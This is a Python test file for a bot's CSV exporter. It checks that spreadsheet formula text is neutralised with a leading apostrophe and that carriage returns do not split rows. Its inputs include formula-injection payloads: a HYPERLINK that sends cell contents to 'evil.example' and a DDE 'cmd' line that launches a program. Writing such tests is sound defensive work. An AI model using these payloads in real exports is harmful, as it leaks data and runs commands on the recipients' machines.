"""The one CSV writer: whatever a person typed, a spreadsheet shows it as text, never runs it."""

from __future__ import annotations

import csv
import io

import pytest

from bot.csv_export import cell, to_csv


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A2,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "\uff1d1+1",
    ],
)
def test_formulas_become_text(text: str) -> None:
    guarded = "'" + text.replace("\r", "\n")
    assert cell(text) == guarded
    (row,) = list(csv.reader(io.StringIO(to_csv(["name"], [[text]]), newline="")))[1:]
    assert row == [guarded]


def test_a_carriage_return_inside_a_cell_does_not_split_the_row() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(["details"], [["one\rtwo"], ["three\r\nfour"]]), newline="")))
    assert rows == [["details"], ["one\ntwo"], ["three\nfour"]]


def test_plain_text_numbers_and_empty_cells_are_written_as_they_are() -> None:
    text = to_csv(["name", "count", "when"], [["Ada Lovelace", -3, None], ["a=b", 2.5, "2026-12-01"]])
    assert text == "name,count,when\nAda Lovelace,-3,\na=b,2.5,2026-12-01\n"
